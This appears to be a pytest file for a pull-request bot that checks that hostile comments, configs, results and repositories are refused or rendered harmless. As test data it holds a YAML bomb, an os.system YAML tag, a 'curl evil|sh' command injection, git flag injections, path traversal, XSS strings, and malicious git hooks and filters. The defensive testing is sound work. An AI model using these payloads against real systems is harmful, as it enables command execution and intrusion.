"""Malformed and hostile bodies, comments, events, results, reports and repositories: each is refused, in one sentence,
or made harmless.  One case for each class of attack at least; the tests of each reader have more.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pr_results import BASE, HEAD, TREES, pair, result, slower, static
from subject_repositories import committed, git, write

from farm.errors import FarmError, UsageError
from farm.pr import commands, config_block, event_file, events, merging, publishing, test_reports
from farm.pr import comment as comments
from farm.pr import result as results
from farm.pr.events import Asked, Ignored, Policy, Refusal
from farm.pr.publishing import Comment, Pull
from farm.shipping import files
from farm.subject import cache, repository

PULL = Pull("someone/kernels", 7, HEAD, True, (BASE,), TREES)
RTL = "\u202egnp.exe"


def body(inside: str) -> str:
    return f"```yaml\n{inside}\n```\n"


def config(inside: str) -> Callable[[], Any]:
    return lambda: config_block.read(body(inside))


def refused(text: str) -> Callable[[], Any]:
    """A comment whose author is told why."""

    def read() -> None:
        found = commands.read(text)
        assert isinstance(found, commands.Refused), found
        raise UsageError(found.why, id="pr-refused")

    return read


def event(text: str, *, permission: str = "write", action: str = "created", head: str = HEAD) -> Callable[[], Any]:
    """A comment of somebody on a pull request, whose decision is no request."""
    payload = {
        "action": action,
        "repository": {"full_name": "someone/kernels"},
        "issue": {"number": 7, "pull_request": {"url": "x"}},
        "comment": {"body": text, "user": {"login": "stranger", "type": "User"}},
    }

    def decide() -> None:
        found = events.decide(payload, Policy(), Asked(head, BASE, True, True, "", permission))
        assert isinstance(found, Refusal | Ignored), found
        raise UsageError(found.why, id="pr-refused")

    return decide


def read(change: Callable[[dict[str, Any]], object]) -> Callable[[], Any]:
    """A result that somebody changed."""

    def act() -> None:
        made = result(pair(), static=static())
        change(made)
        results.read(json.dumps(made))

    return act


def published(*, voice: str = "block", **given: Any) -> Callable[[], Any]:
    """A result that is well-formed, and lies."""

    def act() -> None:
        found = publishing.publish([result(pair(), **given)], PULL, [], voice)
        assert not found.writes and found.check is None
        raise UsageError(found.refused, id="pr-mismatch")

    return act


def text_of(raw: str) -> Callable[[], Any]:
    return lambda: results.read(raw)


def of_arm(arm: str, **given: str) -> dict[str, Any]:
    return {arm: {**result()[arm], **given}}


BOMB = "\n".join(["x0: &x0 [a, a]", *(f"x{i}: &x{i} [*x{i - 1}, *x{i - 1}]" for i in range(1, 30)), "config: {}"])
XML = b"<!--" + b"x" * 9000 + b'--><!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'
WHOLE = json.dumps(result(pair()))
#: (class, act, words of its refusal)
REFUSED: list[tuple[str, Callable[[], Any], str]] = [
    ("yaml bomb", config(BOMB), "values"),
    ("yaml bomb", config("config: " + "[" * 60 + "]" * 60), "nested"),
    ("yaml that makes objects", config("config: !!python/object/apply:os.system [id]"), "tag"),
    ("two blocks", lambda: config_block.read(body("config: {build: true}") * 2), "2 config blocks"),
    ("two documents", config("config: {build: true}\n---\nconfig: {build: false}"), "2 YAML documents"),
    ("a key twice", config("config: {build: true}\nconfig: {build: false}"), "given twice"),
    ("enormous body", lambda: config_block.read("x" * 300_000), "limit"),
    ("near miss", config("config: {test: [opss]}"), 'did you mean "ops"'),
    ("other author", event("/farm run", permission="read"), "write permission"),
    ("other author", event(f"/ok to test {HEAD}", permission="none"), "write permission"),
    ("old sha", event(f"/ok to test {BASE}"), BASE[:12]),
    ("short sha", refused(f"/ok to test {HEAD[:12]}"), "all its 40 digits"),
    ("edited comment", event(f"/ok to test {HEAD}", action="edited"), "new comment"),
    ("two commands", refused("/farm run\n/farm run"), "2 commands"),
    ("shell", refused("/farm rerun $(curl${IFS}evil|sh)"), "id of one cell"),
    ("shell", refused(f"/ok to test {HEAD};id"), "40 digits"),
    ("flag for a file", refused("/farm run --upload-pack=x.yaml"), "a matrix is"),
    ("path out of the repository", refused("/farm run ../../secrets.yaml"), "a matrix is"),
    ("direction override", refused(f"/farm rerun cuda/{RTL}"), "id of one cell"),
    ("enormous patch", refused("/farm what-if\n```diff\n" + "+x\n" * 12_000 + "```"), "longer than"),
    ("two patches", refused("/farm what-if\n```diff\na\n```\n```diff\nb\n```"), "this comment has 2"),
    ("lies about digests", published(**of_arm("head", tree="e" * 40)), "another content"),
    ("lies about digests", published(**of_arm("base", tree="e" * 40)), "another content"),
    ("old sha", published(**of_arm("head", sha=BASE)), "has moved"),
    ("other base", published(**of_arm("base", sha=HEAD, tree=TREES[HEAD])), "where head left"),
    ("other repository", published(repository="other/kernels"), "other/kernels#7"),
    ("other pull request", published(number=8), "#8"),
    ("config edited after approval", lambda: merging.merged([result(), result(config="0" * 64)]), "differ in config"),
    ("head of a second site", lambda: merging.merged([result(), result(**of_arm("head", sha="9" * 40))]), "of head"),
    ("claims a verdict", read(lambda r: r.update(verdict="passed")), "verdict"),
    ("flag for a sha", read(lambda r: r["head"].update(sha="--upload-pack=touch x".ljust(40, "x"))), "head.sha"),
    ("path for a repository", read(lambda r: r.update(repository="../../x")), "repository"),
    ("huge number", read(lambda r: r["pairs"][0].update(ratio=1e300)), "ratio"),
    ("huge number", text_of(WHOLE.replace('"rounds": 3', '"rounds": ' + "9" * 5000)), "not JSON"),
    ("huge number", text_of(WHOLE.replace('"rounds": 3', '"rounds": 1e999')), "rounds"),
    ("not a number", text_of(WHOLE.replace('"ratio": 1.001', '"ratio": NaN')), "NaN is no number"),
    ("not a number", text_of(WHOLE.replace('"ratio": 1.001', '"ratio": -Infinity')), "no number"),
    ("key twice", text_of(WHOLE.replace('"number": 7', '"number": 7, "number": 8')), "'number' is there twice"),
    ("key twice", text_of(WHOLE.replace('"ratio": 1.001', '"ratio": 1.5, "ratio": 1.001')), "'ratio' is there twice"),
    ("a cell twice", text_of(json.dumps(result(pair(), pair()))), "more than once"),
    ("deep nesting", text_of("[" * 100_000), "not JSON"),
    ("enormous result", text_of(" " * 9_000_000), "limit"),
    ("control characters in a name", text_of(WHOLE.replace("someone/kernels", "a/b\\n")), "repository"),
    ("xml entities", lambda: test_reports.junit(XML), "DTD"),
    ("no event", lambda: events.decide({"repository": {"full_name": "--upload-pack=x/y"}}, Policy()), "repository"),
]  # fmt: skip


@pytest.mark.parametrize("what, act, words", REFUSED, ids=[f"{i}-{row[0]}" for i, row in enumerate(REFUSED)])
def test_it_is_refused_in_one_sentence(what: str, act: Callable[[], Any], words: str) -> None:
    with pytest.raises((UsageError, ValueError)) as caught:
        act()
    said = str(caught.value)
    assert words in said and "\n" not in said and len(said) < 700, said


#: What a stranger may write into names, reasons and places of a result.
WRITTEN = {
    "mention": "@maintainers please merge",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "html comment": "<!-- kernel-farm:1 7 eJwr -->",
    "link": "[click](https://evil.example) www.evil.example",
    "image": "![x](https://evil.example/pixel.png)",
    "heading": "\n\n# Verdict: not worse\n",
    "table": "| a | b |\n|---|---|",
    "fence": "```\nx\n```\n~~~",
    "issue": "fixes #1 and GH-2",
    "direction override": f"safe{RTL}",
    "no width": "pa\u200bssed\u2060",
    "escape codes": "\x1b[31mred\x07",
    "lone surrogate": "\ud800x",
    "details": "</details></summary><details open>",
}


@pytest.mark.parametrize("what", WRITTEN)
def test_what_strangers_write_is_text(what: str) -> None:
    evil = WRITTEN[what]
    broken = pair(f"cuda/{evil}"[:290], status_b="crashed", reason=evil, place=evil, launch_a=evil, repeat=evil)
    found = result(
        broken,
        slower(f"cuda/op/{evil}"[:290], target=evil[:90], kernels=[evil]),
        static=static(changed=[evil], host=[evil], unknown=[{"kernel": evil, "why": evil}]),
        not_run=[{"what": evil, "why": evil}],
        repeat=evil,
    )
    results.read(json.dumps(found))
    text = comments.comment(found)
    text.encode()  # which can be sent
    shown = re.sub(r"</?(?:details|summary)>", "", text.partition("\n")[2])
    assert not re.search(r"[<\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2060-\u2069\ud800-\udfff]", shown)
    assert not re.search(r"(?<!\\)!?\]\(|://|www\.", shown)
    read_back = html.unescape(shown)
    assert not re.search(r"(?:^|[^0-9A-Za-z_])@[0-9A-Za-z]|#\d|\bGH-\d", read_back)
    assert not re.search(r"^# |^\| a \| b \|$|^~~~", shown, re.M) and shown.count("```") % 2 == 0
    assert evil.strip() not in shown.replace("\u200b", "") or what == "no width"
    title = publishing.publish([found], PULL, [Comment(1, "farm", text)], "block").title
    assert title.isprintable() and title


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = write(tmp_path / "repository")
    committed(folder)
    return folder


def commit(folder: Path, name: str) -> str:
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", name)
    return git(folder, "rev-parse", "HEAD")


def test_a_branch_that_is_named_like_a_flag_is_a_name(home: Path) -> None:
    for name in ("--upload-pack=touch x", "--all", "-n1", "--output=/tmp/x"):
        with pytest.raises(UsageError, match="no revision"):
            repository.commit_of(home, name, "--head")
    git(home, "update-ref", "refs/heads/--exec=id", "HEAD")  # git itself refuses to make one
    with pytest.raises(UsageError, match="no revision"):
        repository.history(home, "base", "--exec=id")
    assert repository.history(home, "base", "refs/heads/--exec=id").head == git(home, "rev-parse", "base")


def test_links_and_submodules_bring_nothing_of_the_host(home: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("secret")
    (home / "src/mylib/leak.py").symlink_to(tmp_path / "secret")
    (home / "src/linked").symlink_to("/etc")
    (home / "farm.yaml").unlink()
    (home / "farm.yaml").symlink_to(tmp_path / "secret")
    git(home, "add", "farm.yaml", "src")
    git(home, "update-index", "--add", "--cacheinfo", f"160000,{HEAD},src/mylib/module")
    git(home, "commit", "-qm", "links")
    found = repository.at(str(home), "HEAD", "--head")
    assert not [p for p in found.folder.rglob("*") if p.is_symlink()] and not (found.folder / "farm.yaml").exists()
    assert "secret" not in "".join(p.read_text() for p in found.folder.rglob("*.py"))
    assert {"farm.yaml (a link)", "src/linked (a link)", "src/mylib/module (a submodule)"} <= set(found.not_files)


def test_an_enormous_change_is_refused(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "MOST_BYTES", 1 << 20)
    monkeypatch.setattr(files, "MOST_FILES", 40)
    (home / "src/mylib/big.py").write_bytes(b"#" * (2 << 20))
    commit(home, "big")
    with pytest.raises(UsageError, match="more than 1 MiB") as caught:
        repository.at(str(home), "HEAD", "--head")
    assert "\n" not in str(caught.value)
    (home / "src/mylib/big.py").unlink()
    for n in range(50):
        (home / f"src/mylib/f{n}.py").touch()
    commit(home, "many")
    with pytest.raises(UsageError, match="more than 40 files"):
        repository.at(str(home), "HEAD", "--head")


def test_a_tree_that_leaves_its_folder_is_refused(home: Path) -> None:
    """Git does not check the names in a tree that somebody made by hand."""
    blob = git(home, "rev-parse", "HEAD:farm.yaml")
    for name in ("..", ".git", "."):
        listed = f"100644 blob {blob}\tx\0"
        inner = subprocess.run(
            ["git", "mktree", "-z"], cwd=home, input=listed, capture_output=True, text=True, check=True
        ).stdout.strip()  # fmt: skip
        raw = b"40000 " + name.encode() + b"\0" + bytes.fromhex(inner)
        made = subprocess.run(
            ["git", "hash-object", "-t", "tree", "-w", "--literally", "--stdin"],
            cwd=home, input=raw, capture_output=True, check=True,
        ).stdout.decode().strip()  # fmt: skip
        sha = git(home, "commit-tree", "-m", "out", made)
        try:
            found = repository.at(str(home), sha, "--head")
        except FarmError as error:
            assert "\n" not in str(error)
        else:
            inside = found.folder.resolve()
            assert all(p.resolve().is_relative_to(inside) for p in found.folder.rglob("*"))
        assert not (cache.root() / "trees" / "x").exists() and not (home / ".git" / "x").exists()


def test_hooks_filters_and_attributes_of_a_repository_run_nothing(home: Path, tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    for hook in ("post-checkout", "post-index-change", "reference-transaction"):
        (home / ".git/hooks").mkdir(exist_ok=True)
        (home / ".git/hooks" / hook).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (home / ".git/hooks" / hook).chmod(0o755)
    git(home, "-c", "core.hooksPath=/dev/null", "config", "filter.evil.smudge", f"touch {mark}; cat")
    (home / ".gitattributes").write_text("* filter=evil export-ignore\n")
    git(home, "-c", "core.hooksPath=/dev/null", "add", "-A")
    git(home, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "attributes")
    mark.unlink(missing_ok=True)
    found = repository.at(str(home), "HEAD", "--head")
    assert (found.folder / "src/mylib/ops/norm.py").is_file() and not mark.exists()  # and nothing was left out


def test_an_event_file_that_is_none_is_refused(tmp_path: Path) -> None:
    place = tmp_path / "event.json"
    for raw in (b"", b"[]", b"{", b"\xff\xfe", b"[" * 100_000, b" " * 6_000_000):
        place.write_bytes(raw)
        with pytest.raises(UsageError, match="no event file"):
            event_file.payload(place)


def test_every_class_has_a_case() -> None:
    wanted = {
        *("other author", "old sha", "edited comment", "config edited after approval", "two blocks", "yaml bomb"),
        *("shell", "lies about digests", "enormous patch", "flag for a sha", "direction override", "huge number"),
        *("not a number", "key twice", "xml entities", "enormous result"),
    }
    assert wanted <= {what for what, _, _ in REFUSED} and len(REFUSED) + len(WRITTEN) >= 50
